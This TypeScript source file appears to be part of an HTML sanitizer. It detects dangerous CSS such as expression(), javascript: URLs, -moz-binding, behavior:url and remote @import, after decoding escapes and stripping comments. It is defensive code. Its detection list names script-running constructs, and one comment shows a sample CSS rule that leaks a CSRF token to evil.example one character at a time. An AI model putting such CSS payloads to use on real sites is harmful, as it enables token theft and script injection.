/**
 * CSS that runs script or loads code: IE's `expression(...)`, `url(javascript:...)`, Firefox's
 * `-moz-binding`, IE's `behavior: url(...)`, and `@import`; and CSS that reads an input's value out
 * of the page, a fetch per guessed character. CSS escapes (`\0075rl` is `url`) and
 * comments are undone first, since browsers read them that way.
 */

export interface CssThreat {
  construct: string;
  strength: number;
}

/**
 * `\XXXXXX ` escapes decoded, `\x` for other x; comments removed (not inside strings, where `/*`
 * is text: `no:x("*//*");y:ex/**\/pression(...)`); spaces dropped; lower-cased.
 */
function canonicalCss(css: string): string {
  let out = "";
  let quote = "";
  for (let i = 0; i < css.length; i++) {
    const c = css[i]!;
    if (quote === "" && (c === '"' || c === "'")) quote = c;
    else if (c === quote) quote = "";
    if (quote === "" && c === "/" && css[i + 1] === "*") {
      const close = css.indexOf("*/", i + 2);
      i = close === -1 ? css.length : close + 1;
      continue;
    }
    if (c === "\\") {
      let k = i + 1;
      while (k < css.length && k < i + 7 && /[0-9a-fA-F]/.test(css[k]!)) k++;
      if (k > i + 1) {
        const cp = parseInt(css.slice(i + 1, k), 16);
        out += cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : "";
        i = css[k] === " " ? k : k - 1;
      } else if (k < css.length) {
        out += css[k];
        i = k;
      }
      continue;
    }
    if (c.charCodeAt(0) > 0x20) out += c;
  }
  return out.toLowerCase();
}

const THREATS: [string, CssThreat][] = [
  ["expression(", { construct: "css-expression", strength: 0.9 }],
  ["javascript:", { construct: "css-script-url", strength: 0.9 }],
  ["vbscript:", { construct: "css-script-url", strength: 0.9 }],
  ["-moz-binding", { construct: "css-binding", strength: 0.9 }],
  ["@import", { construct: "css-import", strength: 0.5 }],
];

/** The strongest threat in a style attribute or a `<style>` body, or null. */
export function cssThreat(css: string): CssThreat | null {
  if (css.indexOf(":") === -1 && css.indexOf("(") === -1 && css.indexOf("@") === -1 && css.indexOf("\\") === -1) return null;
  // Full-width letters (`ｅｘｐｒｅｓｓｉｏｎ`) were read as ASCII by old IE.
  const canon = canonicalCss(/[^\x00-\x7f]/.test(css) ? css.normalize("NFKC") : css);
  let best: CssThreat | null = null;
  for (const [needle, threat] of THREATS) {
    if (canon.includes(needle) && (!best || threat.strength > best.strength)) best = threat;
  }
  // A stylesheet fetched from another host is the attacker's CSS (and old IE's script) on the page.
  if (REMOTE_IMPORT.test(canon) && (!best || best.strength < 0.8)) best = { construct: "css-import", strength: 0.8 };
  if (VALUE_SELECTOR_EXFILTRATION.test(canon) && (!best || best.strength < 0.85)) best = { construct: "css-exfiltration", strength: 0.85 };
  const behavior = behaviorThreat(canon);
  return behavior && (!best || behavior.strength > best.strength) ? behavior : best;
}

/**
 * A rule that matches an input by the first or last few characters of its value, and then fetches
 * from a host (`input[name=csrf][value^=a]{background:url(//evil.example/a)}`): one such rule per
 * guessed character reads a token out of the page, one request at a time. A style for a button by
 * its label (`[value*="Search"]`) guesses nothing. Once spaces are dropped.
 */
const VALUE_SELECTOR_EXFILTRATION = /\[value[\^$]=(?:"[^"\]]{1,3}"|'[^'\]]{1,3}'|[^\]'"]{1,3})\][^{]{0,256}\{[^}]{0,256}url\(['"]?(?:https?:)?\/\//;

/** `@import 'http://...'`, `@import url(//...)` once spaces are dropped. */
const REMOTE_IMPORT = /@import(?:url\()?['"]?(?:https?:)?\/\//;

/**
 * IE's `behavior:url(x.htc)` runs the component's script. Pasted Office HTML carries the built-in
 * `behavior:url(#default#VML)`: only a behavior loaded from a file is proof.
 */
function behaviorThreat(canon: string): CssThreat | null {
  const at = canon.indexOf("behavior:url(");
  if (at === -1) return null;
  const target = canon.slice(at + 13, at + 23).replace(/^['"]/, "");
  return { construct: "css-binding", strength: target.startsWith("#default#") ? 0.6 : 0.85 };
}
